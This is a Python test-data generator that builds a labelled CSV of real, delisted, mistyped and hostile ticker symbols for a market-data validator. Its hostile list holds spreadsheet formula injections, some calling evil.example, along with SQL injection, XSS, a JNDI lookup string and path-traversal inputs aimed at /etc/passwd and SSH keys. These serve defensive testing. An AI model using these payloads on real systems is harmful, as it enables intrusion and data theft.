"""How `labelled_symbols.csv` was made, and how it is read.

1,000 texts with what Chronos should say of them when the symbol master is loaded and the providers answer:

- `real`, 600: lines of a symbol master (FinanceDatabase with the lists of Nasdaq and the S&P 500), taken at random with
  a fixed seed, a few from every exchange rather than many from the large ones, of all classes; 60 of the S&P 500 too.
- `delisted`, 100: US listings that are known to have ended. `kept` are those that are stored as assets which a provider
  confirmed once: they are `delisted`. Of the others nothing shows that they ever were, so they are `unknown`; three are
  still listed by the directory under the old name (`leftover`), and three without name and exchange (`bare`), and those
  six are `delisted`.
- `mistyped`, 200: a line of the master with one slip: two letters exchanged, one doubled, left out, or replaced by the
  key beside it, a separator lost, a wrong or lost suffix; none of them is in the master.
- `hostile`, 100: look-alikes, invisible characters, formulas, SQL, HTML, paths, long texts. Where only one thing can be
  meant (full-width letters) it is read as that.

`written` is escaped as in JSON. To make the list again:
`python -m tests.marketdata.labels symbol_master.parquet > tests/marketdata/labelled_symbols.csv`
"""

import csv
import json
import random
import sys
from dataclasses import dataclass
from pathlib import Path

PLACE = Path(__file__).parent / "labelled_symbols.csv"
FIELDS = ("written", "expected", "origin", "kept", "symbol", "name", "asset_class", "exchange")
CLASSES = {"EQUITY": "stock", "ETF": "etf", "INDEX": "index", "CURRENCY": "fx", "CRYPTOCURRENCY": "crypto"}
WANTED = {"EQUITY": 280, "ETF": 90, "INDEX": 70, "CURRENCY": 50, "CRYPTOCURRENCY": 50}
ROWS = ("1234567890", "QWERTYUIOP", "ASDFGHJKL", "ZXCVBNM")

ENDED = """
LEH Lehman Brothers Holdings|ENE Enron|WCOM WorldCom|BSC Bear Stearns|CFC Countrywide Financial|MER Merrill Lynch
TWTR Twitter|FRC First Republic Bank|SIVB SVB Financial|ATVI Activision Blizzard|SBNY Signature Bank|YHOO Yahoo
LNKD LinkedIn|EMC EMC Corporation|MON Monsanto|CELG Celgene|RHT Red Hat|XLNX Xilinx|MXIM Maxim Integrated
ALXN Alexion|VMW VMware|SGEN Seagen|HZNP Horizon Therapeutics|SPLK Splunk|CTXS Citrix|CERN Cerner|ABMD Abiomed
DRE Duke Realty|NLSN Nielsen|ZEN Zendesk|TWX Time Warner|TWC Time Warner Cable|DTV DirecTV|BRCM Broadcom Corporation
ALTR Altera|PCP Precision Castparts|STJ St. Jude Medical|LLTC Linear Technology|CAM Cameron International
BXLT Baxalta|ARG Airgas|HOT Starwood Hotels|JOY Joy Global|KRFT Kraft Foods Group|LO Lorillard|PLL Pall
SIAL Sigma-Aldrich|FDO Family Dollar|HSP Hospira|AGN Allergan|MHS Medco Health|NYX NYSE Euronext|PCS MetroPCS
LSI LSI Corporation|MOLX Molex|JCP J. C. Penney|RSH RadioShack|AABA Altaba|ANTM Anthem|UTX United Technologies
CBS CBS Corporation|VIAB Viacom|RTN Raytheon|WCG WellCare|TSS Total System Services|HCBK Hudson City Bancorp
CVC Cablevision|CPGX Columbia Pipeline|RAI Reynolds American|LVLT Level 3|WFM Whole Foods|SCG SCANA|ESRX Express Scripts
COL Rockwell Collins|AET Aetna|CA CA Inc.|ANDV Andeavor|DPS Dr Pepper Snapple|PX Praxair|NFX Newfield Exploration
KORS Michael Kors|VAR Varian|NBL Noble Energy|FLIR FLIR Systems|HFC HollyFrontier|COG Cabot Oil & Gas
KSU Kansas City Southern|PBCT People's United|DISCA Discovery|INFO IHS Markit|FBHS Fortune Brands|NLOK NortonLifeLock
PXD Pioneer Natural Resources|WRK WestRock
"""
LEFTOVER = "TOT TOTAL SE|FLT FLEETCOR Technologies|PKI PerkinElmer"
BARE = "ETFC E*TRADE|MYL Mylan|TIF Tiffany"
HOSTILE = [
    *(("malformed", text) for text in (
        "АAPL", "ΑAPL", "AАPL", "NVDА", "МSFT", "TЅLA", "GOOGL\u0405", "ВTC-USDT", "ЕTH-USD", "ІBM", "ıBM", "ТSLA",
        "AMΖN", "ΜETA", "ΝFLX", "Οracle", "ЅPY", "QQQ\u0406", "Х", "АВВ", "СAT", "РFE", "КO", "ՕRCL", "ᎪAPL",
        "AA\u200bPL", "N\u200cVDA", "MS\u200dFT", "TS\u2060LA", "AM\u00adZN\u200b", "GO\ufeffOG", "AA\u202ePL",
        "ME\u2066TA",
        "AAPL\u0000", "NV\u0000DA", "A\u0007", "B\u001b[31m", "C\u007f", "AAPL\tMSFT", "AAPL\nMSFT",
        "=HYPERLINK(\"http://evil.example\",\"AAPL\")", "=cmd|' /C calc'!A0", "=1+1", "=AAPL", "+AAPL", "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(\"http://evil.example\")", "=A1", "+1", "@AAPL",
        "'; DROP TABLE marketdata_asset; --", "' OR '1'='1", "1; SELECT pg_sleep(10)", "AAPL'--", "\") OR 1=1 --",
        "AAPL OR 1=1", "admin'/*", "%' AND 1=0 UNION SELECT", "AAPL; COMMIT", "$$;SELECT$$",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>AAPL</b>", "&lt;AAPL&gt;", "\"><svg onload=x>",
        "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/a}", "{% csrf_token %}", "#{1+1}", "<!--#exec-->",
        "../../etc/passwd", "..\\..\\windows", "/etc/passwd%00", "file:///etc/passwd", "http://evil.example/AAPL",
        "%00",
        "~/.ssh/id_rsa", "C:\\AAPL",
        "x" * 41, "A" * 60, "AAPL " * 30, "NVDA," * 40, "Ａ" * 50, "💥", "📈AAPL", "½", "Ⅸ", "ﷺ", "AAPL²",
    )),
]  # fmt: skip
READ = {"ＡＡＰＬ": "AAPL", "ＮＶＤＡ": "NVDA", "𝐌𝐒𝐅𝐓": "MSFT", "\ufeffAAPL": "AAPL", "\u200eTSLA\u200f": "TSLA",
        "$JPM": "JPM",
        "ＢＲＫ－Ｂ": "BRK-B", "BTC–USD": "BTC-USD", "EUR / USD": "EUR-USD"}  # fmt: skip


@dataclass(frozen=True)
class Label:
    """One text and what should be said of it. `symbol` is the directory's spelling, where it has one."""

    written: str
    expected: str
    origin: str
    kept: bool = False
    symbol: str = ""
    name: str = ""
    asset_class: str = ""
    exchange: str = ""


def read() -> list[Label]:
    with PLACE.open(newline="", encoding="utf-8") as lines:
        return [
            Label(**{**row, "written": json.loads(f'"{row["written"]}"'), "kept": row["kept"] == "yes"})
            for row in csv.DictReader(lines)
        ]


def slip(symbol: str, dice: random.Random) -> str:
    """The symbol with one mistake of a hand."""
    base, dot, suffix = symbol.partition(".")
    kind = dice.choice(["swap", "double", "drop", "beside", "beside", "separator", "suffix"])
    letters = [place for place, sign in enumerate(base) if sign.isalnum()]
    place = dice.choice(letters)
    if kind == "swap" and place + 1 < len(base):
        base = base[:place] + base[place + 1] + base[place] + base[place + 2 :]
    elif kind == "double":
        base = base[: place + 1] + base[place:]
    elif kind == "drop" and len(base) > 3:
        base = base[:place] + base[place + 1 :]
    elif kind == "separator" and "-" in base:
        base = base.replace("-", "", 1)
    elif kind == "suffix" and dot:
        dot, suffix = ("", "") if dice.random() < 0.5 else (dot, dice.choice(["L", "TO", "PA", "DE", "HK", "T"]))
    else:
        row = next(row for row in ROWS if base[place] in row)
        beside = row[max(0, row.index(base[place]) - 1) : row.index(base[place]) + 2].replace(base[place], "")
        base = base[:place] + dice.choice(beside) + base[place + 1 :]
    return base + dot + suffix


def made(master: Path) -> list[Label]:
    """The list, from the directory's lines."""
    import pandas as pd

    from marketdata.models import canonical

    dice = random.Random(20_260_301)
    frame = pd.read_parquet(master).fillna("").sort_values("symbol")
    lines = frame.to_dict("records")
    theirs = {line["symbol"] for line in lines} | {canonical(line["symbol"]) for line in lines}
    sound = [line for line in lines if _is_sound(line)]
    real = _spread(sound, dice)
    chosen = {line["symbol"] for line in real} | set(READ.values())
    sp500 = [line for line in sound if line["sp500"] and line["symbol"] not in chosen]
    real += dice.sample(sp500, 600 - len(real))
    labels = [
        Label(line["symbol"], "valid", "real", symbol=line["symbol"], name=line["name"],
              asset_class=CLASSES[line["type"]], exchange=line["exchange"])
        for line in sorted(real, key=lambda line: line["symbol"])
    ]  # fmt: skip
    labels += _delisted(theirs)
    taken, pool = {label.written for label in labels}, [line["symbol"] for line in sound]
    while sum(label.origin == "mistyped" for label in labels) < 200:
        symbol = dice.choice(pool)
        wrong = slip(symbol, dice)
        if wrong != symbol and not {wrong, canonical(wrong)} & theirs and wrong not in taken and len(wrong) <= 40:
            taken.add(wrong)
            labels.append(Label(wrong, "unknown", "mistyped", symbol=symbol))
    labels += [Label(text, expected, "hostile") for expected, text in HOSTILE]
    labels += [Label(text, "valid", "hostile", symbol=symbol) for text, symbol in READ.items()]
    return labels


def _is_sound(line: dict) -> bool:
    """Written as our symbols can be, and not a leftover without a name."""
    import re

    from marketdata.models import SYMBOL, canonical

    bare = not line["name"] and not line["exchange"] and line["type"] in ("EQUITY", "ETF")
    ended = {text.split()[0] for text in _each(LEFTOVER)}
    return bool(re.fullmatch(SYMBOL, canonical(line["symbol"]))) and not bare and line["symbol"] not in ended


def _spread(lines: list[dict], dice: random.Random) -> list[dict]:
    """Of each class as many as wanted, in turn from each of its exchanges."""
    found = []
    for kind, many in WANTED.items():
        by_exchange: dict[str, list[dict]] = {}
        for line in lines:
            if line["type"] == kind:
                by_exchange.setdefault(line["exchange"], []).append(line)
        for group in by_exchange.values():
            dice.shuffle(group)
        some: list[dict] = []
        while len(some) < many:
            for exchange in sorted(by_exchange):
                if by_exchange[exchange] and len(some) < many:
                    some.append(by_exchange[exchange].pop())
        found += some
    return found


def _each(text: str) -> list[str]:
    return [part.strip() for part in text.replace("\n", "|").split("|") if part.strip()]


def _delisted(theirs: set[str]) -> list[Label]:
    labels = []
    for number, entry in enumerate(_each(ENDED)):
        symbol, _, name = entry.partition(" ")
        assert symbol not in theirs, symbol
        kept = number % 2 == 0
        labels.append(
            Label(symbol, "delisted" if kept else "unknown", "delisted", kept, name=name, asset_class="stock")
        )
    for entry, origin in [*((one, "leftover") for one in _each(LEFTOVER)), *((one, "bare") for one in _each(BARE))]:
        symbol, _, name = entry.partition(" ")
        assert symbol in theirs, symbol
        exchange = "NYQ" if origin == "leftover" else ""
        labels.append(
            Label(symbol, "delisted", origin, symbol=symbol, name=name, asset_class="stock", exchange=exchange)
        )
    return labels


def main() -> None:
    import os

    import django

    os.environ["DJANGO_SETTINGS_MODULE"] = "chronos.settings"
    django.setup()
    out = csv.writer(sys.stdout, lineterminator="\n")
    out.writerow(FIELDS)
    for label in made(Path(sys.argv[1])):
        row = [getattr(label, name) for name in FIELDS]
        row[0], row[3] = json.dumps(label.written)[1:-1], "yes" if label.kept else ""
        out.writerow(row)


if __name__ == "__main__":
    main()
